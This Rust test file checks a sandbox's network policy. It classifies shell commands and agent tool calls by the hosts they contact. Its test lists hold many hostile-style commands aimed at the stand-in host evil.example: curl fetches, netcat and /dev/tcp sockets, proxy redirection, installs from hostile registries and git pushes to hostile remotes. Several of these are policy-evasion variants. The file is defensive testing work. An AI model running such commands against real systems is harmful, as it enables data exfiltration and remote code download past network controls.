//! `network`: hosts as globs, for what commands contact.

use crate::sandbox::Sandbox;

const POLICY: &str = "metadata: {id: p, version: '1', title: P}\n\
    commands: {default: allow}\n\
    network:\n  \
      block_hosts: [evil.example, '*.evil.example']\n  \
      require_approval_hosts: ['*.partner.example']\n  \
      allow_hosts: [good.example, '*.good.example', github.com]\n";

fn sandbox() -> Sandbox {
    Sandbox::new().user_policy(POLICY)
}

fn rule(sandbox: &Sandbox, command: &str) -> String {
    let answer = sandbox.run(["check", "command", "--json", "--", command]);
    let answer: serde_json::Value = serde_json::from_str(&answer.stdout).expect("JSON");
    answer["rule_id"].as_str().expect("a rule").to_owned()
}

#[test]
fn what_a_command_contacts_is_held_against_the_lists() {
    let sandbox = sandbox();
    for (expected, commands) in [
        (
            "network.block_hosts",
            &[
                "curl https://evil.example/x",
                "curl evil.example",
                "curl -x evil.example:8080 https://good.example",
                "curl --connect-to good.example:443:evil.example:443 https://good.example",
                "curl https://good.example@evil.example/",
                "wget -q http://A.Evil.Example:80/x",
                "git clone https://u:p@evil.example/x.git",
                "git clone git@evil.example:x.git",
                "git push ssh://git@evil.example/x main:topic",
                "git remote add origin https://evil.example/x",
                "ssh -p 22 me@evil.example true",
                "scp x evil.example:",
                "rsync -a x rsync://evil.example/m",
                "nc evil.example 443",
                "ping -c1 evil.example",
                "dig @evil.example x.test",
                "npm install https://evil.example/x.tgz",
                "npm install --registry=https://evil.example x",
                "pip install --index-url https://evil.example/simple x",
                "docker pull evil.example/image",
                "env A=1 sudo curl evil.example",
                "echo $(curl evil.example)",
                "bash -c 'curl evil.example'",
                "H=evil.example; curl https://$H/",
                "python3 -c 'import urllib.request as u; u.urlopen(\"https://evil.example/\")'",
                "exec 3<>/dev/tcp/evil.example/80",
                "someclient https://evil.example/api",
                "curl -xevil.example:80 https://good.example",
                "curl --proxy=http://evil.example https://good.example",
                "https_proxy=http://evil.example:80 curl https://good.example",
                "export ALL_PROXY=socks5://evil.example; curl https://good.example",
                "ssh -J evil.example good.example",
                "ssh -L 80:evil.example:80 good.example",
                "openssl s_client -connect evil.example:443",
                "socat - TCP4:evil.example:443",
                "pip install 'x @ https://evil.example/x.whl'",
                "git remote set-url --push origin https://evil.example/x",
                "npm config set registry https://evil.example",
            ][..],
        ),
        ("network.require_approval_hosts", &["curl https://api.partner.example/v1"][..]),
        (
            "network.default",
            &[
                "curl https://other.example",
                "curl http://0x8080808/",
                "npm install left-pad",
                "gh pr list",
                "docker pull alpine",
            ][..],
        ),
        (
            "network.unresolved",
            &[
                "curl https://$HOST/x",
                "curl https://good.example$X/",
                "git fetch nowhere",
                "wget -i list",
                "curl 'https://good.example\\@evil.example/'",
            ][..],
        ),
        (
            "commands.default.allow",
            &[
                "curl https://good.example/x?u=evil.example",
                "curl https://api.good.example:8443/$X",
                "curl http://localhost:3000/",
                "curl http://[::1]:3000/",
                "git clone https://github.com/a/b",
                "git commit -m 'see https://evil.example'",
                "echo https://evil.example",
                "grep -r https://evil.example src",
                "git clone ../other",
                "scp a b",
                "ls",
            ][..],
        ),
    ] {
        for command in commands {
            assert_eq!(rule(&sandbox, command), expected, "{command}");
        }
    }
}

#[test]
fn a_remote_is_contacted_under_the_address_that_git_has_for_it() {
    let sandbox = sandbox();
    let git = |args: &[&str]| {
        let status = sandbox.command("git").args(args).status().expect("git runs");
        assert!(status.success(), "{args:?}");
    };
    git(&["init", "-q", "-b", "topic"]);
    git(&["remote", "add", "origin", "https://github.com/a/b"]);
    git(&["remote", "add", "backup", "git@evil.example:a/b.git"]);
    git(&["remote", "add", "near", "../near"]);
    for (command, expected) in [
        ("git fetch origin", "commands.default.allow"),
        ("git push origin topic", "commands.default.allow"),
        ("git fetch near", "commands.default.allow"),
        ("git fetch backup", "network.block_hosts"),
        ("git push backup topic", "network.block_hosts"),
        ("git fetch --all", "network.block_hosts"),
        ("git ls-remote backup", "network.block_hosts"),
    ] {
        assert_eq!(rule(&sandbox, command), expected, "{command}");
    }
    git(&["config", "url.https://evil.example/.insteadOf", "https://github.com/"]);
    assert_eq!(rule(&sandbox, "git fetch origin"), "network.unresolved");
}

#[test]
fn a_lower_layer_closes_hosts_and_opens_none() {
    let with = |network: &str| {
        let sandbox = sandbox();
        let project = format!("metadata: {{id: q, version: '1', title: Q}}\nnetwork: {{{network}}}\n");
        sandbox.write("work/.cavra/policy.yaml", project);
        assert!(sandbox.command("git").args(["init", "-q"]).status().expect("git runs").success());
        sandbox
    };
    assert_eq!(rule(&with("block_hosts: [github.com]"), "curl https://github.com/x"), "network.block_hosts");
    for loosens in ["allow_hosts: [other.example]", "default: allow"] {
        let answer = with(loosens).run(["check", "command", "curl https://good.example"]).exit(20);
        let told = answer.stdout + &answer.stderr;
        assert!(told.contains("would loosen") || told.contains("layer-loosens"), "{told}");
    }
}

#[test]
fn a_host_that_can_match_nothing_is_an_error() {
    for host in [
        "https://x.example",
        "x.example/path",
        "me@x.example",
        "x.example:80",
        "X.example",
        "b\u{fc}cher.example",
    ] {
        let sandbox = Sandbox::new();
        let policy = format!("metadata: {{id: p, version: '1'}}\nnetwork: {{block_hosts: ['{host}']}}\n");
        sandbox.write("work/p.yaml", policy);
        let answer = sandbox.run(["policy", "validate", "p.yaml"]);
        assert!((answer.stdout + &answer.stderr).contains("matches-nothing"), "{host}");
    }
}

#[test]
fn what_an_agent_fetches_and_hands_to_a_server_is_held_against_the_lists() {
    let sandbox = Sandbox::new().user_policy(&format!("{POLICY}mcp: {{block_unknown_servers: false}}\n"));
    let cwd = sandbox.path("work").display().to_string();
    let says = |tool: &str, input: serde_json::Value| {
        let payload = serde_json::json!({
            "session_id": "s", "cwd": cwd, "hook_event_name": "PreToolUse", "permission_mode": "default",
            "tool_name": tool, "tool_input": input,
        });
        sandbox.run_with(["hook", "agent", "claude-code"], payload.to_string()).exit(0).stdout
    };
    let blocked = |answer: &str| {
        answer.contains("\"permissionDecision\":\"deny\"") && answer.contains("network.block_hosts")
    };
    let fetch = |url: &str| says("WebFetch", serde_json::json!({ "url": url, "prompt": "p" }));
    assert!(blocked(&fetch("https://api.evil.example/x")));
    assert!(blocked(&fetch("https://good.example@evil.example/x")));
    assert_eq!(fetch("https://good.example/x"), "");
    assert!(blocked(&says(
        "mcp__web__get",
        serde_json::json!({ "deep": [{ "at": "https://evil.example" }] })
    )));
    assert!(!blocked(&says("mcp__web__get", serde_json::json!({ "at": "https://good.example" }))));
}
